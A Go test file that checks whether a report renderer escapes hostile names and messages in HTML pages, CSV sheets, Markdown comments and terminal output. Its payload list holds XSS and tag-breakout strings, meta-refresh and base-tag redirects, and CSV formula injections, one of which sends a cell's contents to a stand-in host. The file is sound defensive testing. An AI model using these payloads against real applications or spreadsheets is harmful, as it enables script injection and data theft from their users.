package page_test

import (
	"encoding/csv"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"ackrevoke/job/page"
	"ackrevoke/job/page/comment"
	"ackrevoke/job/page/plain"
	"ackrevoke/job/page/sheet"
	"ackrevoke/job/page/web"
	"ackrevoke/job/report"
)

// hostile are texts that others may put where they choose a name or a message.
func hostile(t *testing.T) map[string]string {
	t.Helper()
	data, err := os.ReadFile("../../testdata/hostile/texts.yaml")
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{}
	if err := yaml.Unmarshal(data, &texts); err != nil {
		t.Fatal(err)
	}
	maps.Copy(texts, map[string]string{
		"long":            strings.Repeat("n", 2<<10),
		"long markup":     strings.Repeat("<b>", 1<<10),
		"not UTF-8":       "a\xff\xfez",
		"end of script":   `</script><script>FORGED()</script>`,
		"end of style":    `</style><style>*{display:none}</style>`,
		"end of title":    `</title><base href="//forged.example/">`,
		"attribute":       `"><img src=x onerror=FORGED()>`,
		"quoted":          `' onmouseover='FORGED()' x='`,
		"unquoted":        `x onload=FORGED()`,
		"address":         `javascript:FORGED()`,
		"refresh":         `<meta http-equiv="refresh" content="0;url=//forged.example/">`,
		"own policy":      `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		"template":        `{{.Policy}}{{template "page" .}}`,
		"comment of HTML": `<!-- --><!--`,
		"entity":          `&lt;script&gt;&#60;`,
		"svg":             `<svg/onload=FORGED()><path d="M0 0">`,
		"formula":         `=HYPERLINK("http://forged.example/"&A1,"click")`,
		"plus":            `+1+1`, "minus": `-1+1`, "at": `@SUM(1+1)`, "full width": `＝1+1`, "blank": ` =1+1`,
		"semicolon":  `a;=cmd|' /C calc'!A0;b`,
		"closed":     `a";=1+1;"`,
		"tabulated":  "\t=1+1",
		"mention":    `@admin #1 !2 GH-3 https://forged.example/ www.forged.example`,
		"broken row": "a | b\n| c | d |\n\n# FORGED",
	})
	return texts
}

// Whatever others write anywhere, a page has the elements and attributes that it
// has with a harmless word there, and the text itself can be read on it.
func TestHostileTextsOnAPage(t *testing.T) {
	t.Parallel()
	for schema := range kinds {
		want := skeleton(t, htmlOf(t, full(t, schema, same("x"))))
		for key, what := range some(t, schema) {
			data := htmlOf(t, full(t, schema, same(what)))
			if got := skeleton(t, data); got != want {
				t.Errorf("%s, %s: the page is made of other things: %s", schema, key, firstDifference(got, want))
			}
			shown := strings.ReplaceAll(text(t, data), "\n", "")
			if plain := report.Plain(string([]rune(what))); !strings.Contains(shown, plain) {
				t.Errorf("%s, %s: cannot be read on the page: %s", schema, key, plain)
			}
			if i := strings.IndexFunc(shown, report.Hidden); i >= 0 {
				t.Errorf("%s, %s: something on the page cannot be seen: %q", schema, key, shown[max(0, i-20):])
			}
		}
	}
}

// some are all texts for the report of a run, and for the other formats a quarter of
// them each: what escapes them is the same.
func some(t *testing.T, schema string) map[string]string {
	t.Helper()
	all := hostile(t)
	if schema == report.SchemaName {
		return all
	}
	part := slices.Index(slices.Sorted(maps.Keys(kinds)), schema)
	for i, key := range slices.Sorted(maps.Keys(all)) {
		if i%4 != part%4 {
			delete(all, key)
		}
	}
	return all
}

func firstDifference(got, want string) string {
	a, b := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range min(len(a), len(b)) {
		if a[i] != b[i] {
			return a[i] + " instead of " + b[i]
		}
	}
	return "one is longer"
}

func htmlOf(t *testing.T, documents ...*page.Document) []byte {
	t.Helper()
	var pages []*page.Page
	for _, d := range documents {
		pages = append(pages, d.View())
	}
	data, err := web.Encode(pages...)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// No cell of a sheet is a formula, wherever a spreadsheet believes that a cell ends.
func TestHostileTextsInASheet(t *testing.T) {
	t.Parallel()
	formula := regexp.MustCompile(`^\s*[=+\-@\t\r＝＋－＠]`)
	for schema := range kinds {
		for key, what := range some(t, schema) {
			data := string(sheet.Encode(full(t, schema, same(what)).View()))
			rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
			if err != nil {
				t.Fatalf("%s, %s: %v", schema, key, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return r == ';' || r == '"' }) {
						if formula.MatchString(part) {
							t.Fatalf("%s, %s: %q begins like a formula", schema, key, part)
						}
					}
				}
			}
			if strings.Count(data, "\n") != len(rows) {
				t.Errorf("%s, %s: a line was forged: %d lines for %d rows", schema, key, strings.Count(data, "\n"), len(rows))
			}
		}
	}
}

// A comment has the lines that it has with a harmless word, a table as many cells,
// and never more characters than GitHub takes.
func TestHostileTextsInAComment(t *testing.T) {
	t.Parallel()
	for schema := range kinds {
		want := outline(string(comment.Encode(full(t, schema, same("x")).View())))
		for key, what := range some(t, schema) {
			data := string(comment.Encode(full(t, schema, same(what)).View()))
			if len(data) > comment.Most {
				t.Errorf("%s, %s: %d bytes", schema, key, len(data))
			}
			if got := outline(data); !slices.Equal(got, want) && !strings.HasPrefix(key, "long") {
				t.Errorf("%s, %s: other lines: %s", schema, key, firstDifference(strings.Join(got, "\n"), strings.Join(want, "\n")))
			}
			if strings.Contains(data, "<script") || strings.Contains(data, "<img") || strings.Contains(data, "<svg") {
				t.Errorf("%s, %s: markup of others in:\n%.2000s", schema, key, data)
			}
		}
	}
}

// outline is how each line begins, and how many cells it has.
func outline(markdown string) (lines []string) {
	begin := regexp.MustCompile(`^(#+ |\| ?|> |- |</?details>|\*\*|_|)`)
	for _, line := range strings.Split(markdown, "\n") {
		lines = append(lines, begin.FindString(line)+strings.Repeat("|", strings.Count(line, "|")))
	}
	return lines
}

// A terminal gets nothing that it would obey.
func TestHostileTextsAsText(t *testing.T) {
	t.Parallel()
	for schema := range kinds {
		for key, what := range some(t, schema) {
			data, err := plain.Encode(report.Look{}, full(t, schema, same(what)))
			if err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(string(data)) {
				if i := strings.IndexFunc(strings.TrimSuffix(line, "\n"), report.Hidden); i >= 0 {
					t.Errorf("%s, %s: %q", schema, key, line[max(0, i-20):])
				}
				if strings.HasPrefix(line, "FORGED") {
					t.Errorf("%s, %s: a line was forged: %s", schema, key, line)
				}
			}
		}
	}
}

// Names of 64 KiB push nothing else off a page.
func TestNamesOf64KiB(t *testing.T) {
	t.Parallel()
	d := full(t, report.SchemaName, same(strings.Repeat("<b>&", 16<<10)))
	if got, want := skeleton(t, htmlOf(t, d)), skeleton(t, htmlOf(t, full(t, report.SchemaName, same("x")))); got != want {
		t.Error(firstDifference(got, want))
	}
	text, err := plain.Encode(report.Look{}, d)
	if err != nil {
		t.Fatal(err)
	}
	for what, data := range map[string][]byte{"html": htmlOf(t, d), "csv": sheet.Encode(d.View()), "markdown": comment.Encode(d.View()),
		"text": text} {
		if len(data) > 1<<20 {
			t.Errorf("%s: %d bytes", what, len(data))
		}
	}
}
